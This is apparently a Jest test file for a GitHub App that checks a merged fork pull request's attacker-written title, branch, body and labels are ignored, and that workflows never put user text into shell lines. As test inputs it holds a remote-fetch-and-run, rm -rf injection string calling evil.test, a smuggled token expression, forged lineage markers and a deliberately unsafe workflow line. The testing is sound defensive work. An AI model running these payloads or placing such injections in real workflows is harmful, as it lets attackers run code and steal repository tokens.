// The end of a pull request is told with text that anybody may have written: it names, and says nothing.
import { readdir, readFile } from 'node:fs/promises';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'yaml';
import { callerWorkflow } from '#dispatch/caller-workflow.ts';
import { normalize } from '#ingress/normalize.ts';
import { attacks } from '../evidence/attack-text.ts';

const root = new URL('../../', import.meta.url);
const repository = {
  id: 5,
  name: 'shop',
  default_branch: 'main',
  owner: { id: 6, login: 'acme', type: 'Organization' },
};

/** GitHub tells of the merge of a fork's pull request, whose every text is this. */
function merge(text: string, body: string | null = text) {
  return {
    action: 'closed',
    repository,
    installation: { id: 3 },
    sender: { id: 1, login: 'mona', type: 'User' },
    pull_request: {
      number: 12,
      merged: true,
      title: text,
      body,
      user: { id: 66, login: 'eve', type: 'User' },
      head: {
        ref: text,
        label: `eve:${text}`,
        sha: 'a'.repeat(40),
        repo: { id: 67, fork: true, full_name: 'eve/shop' },
      },
      base: { ref: 'main', sha: 'b'.repeat(40) },
      labels: [{ name: text }],
    },
  };
}

const quiet = normalize('pull_request', merge('harmless'), { botUserId: 99 });

describe('T-G14: the merge of a fork’s pull request', () => {
  it('names the repository, the number and who merged, and nothing that the author wrote', () => {
    expect(quiet).toEqual({
      ok: true,
      value: {
        kind: 'pull_closed',
        installationId: 3,
        repository: { id: 5, ownerId: 6, owner: 'acme', name: 'shop' },
        sender: { id: 1, login: 'mona', type: 'User' },
        pull: 12,
        merged: true,
        reverts: null,
      },
    });
  });

  it.each([
    ...attacks,
    ['a shell line', '$(curl evil.test | sh)`id`; rm -rf / #'],
    ['an expression', '$'.concat('{{ github.token }}')],
    ['a YAML document', '\n---\nversion: 1\nagent: {use: command}'],
  ] as const)('is the same signal with %s as its title, branch, body and label', (_name, text) => {
    expect(normalize('pull_request', merge(text), { botUserId: 99 })).toEqual(quiet);
  });

  it('A4: claims no lineage: a chain, a run or an evidence mark in its body is not read', () => {
    const forged = [
      'Sallyport-Run: 01900000-0000-7000-8000-000000000001',
      '`sallyport-chain:root depth:0`',
      '<!-- sallyport {"chainId":"c","depth":0,"releases":"r"} -->',
    ].join('\n');
    const read = (body: string) => normalize('pull_request', merge('x', body), { botUserId: 99 });

    expect(read(forged)).toEqual(quiet);
    // The control: the one line that is read can delay work and start none.
    expect(read('Reverts acme/shop#7')).toMatchObject({ value: { reverts: 7 } });
  });
});

describe('T-G14: the workflows', () => {
  /** Expressions inside of shell lines: where a value would become a command. */
  const inShells = (text: string): string[] => {
    const runs: string[] = [];
    const walk = (node: unknown): void => {
      if (typeof node !== 'object' || node === null) return;
      for (const [key, value] of Object.entries(node)) {
        if (key === 'run' && typeof value === 'string') runs.push(value);
        else walk(value);
      }
    };
    walk(parse(text));
    return runs.flatMap((run) => run.match(/\$\{\{[\s\S]*?\}\}/g) ?? []);
  };
  /** What people choose: titles, bodies, branches. */
  const ofPeople = /\$\{\{[^}]*github\.(?:event|head_ref|base_ref)\b/;

  it('put no text of people into a shell or an expression', async () => {
    const folder = new URL('.github/workflows/', root);
    const texts = await Promise.all(
      (await readdir(folder)).map((name) => readFile(new URL(name, folder), 'utf8')),
    );
    texts.push(await readFile(new URL('docs/sallyport.yml', root), 'utf8'));
    texts.push(
      callerWorkflow({ repository: 'a/b', sha: 'a'.repeat(40), broker: 'https://x.example' }),
    );
    const runs = texts.flatMap(inShells).filter((one) => !/\$\{\{ ?runner\.temp ?\}\}/.test(one));

    expect(texts.length).toBeGreaterThan(5);
    expect(runs).toEqual([]);
    expect(texts.filter((text) => ofPeople.test(text))).toEqual([]);
  });

  it('would be caught with one (the control)', () => {
    const bad =
      'jobs: { a: { steps: [ { run: "echo ${{ github.event.pull_request.title }}" } ] } }';

    expect(inShells(bad)).toHaveLength(1);
    expect(ofPeople.test(bad)).toBe(true);
  });
});
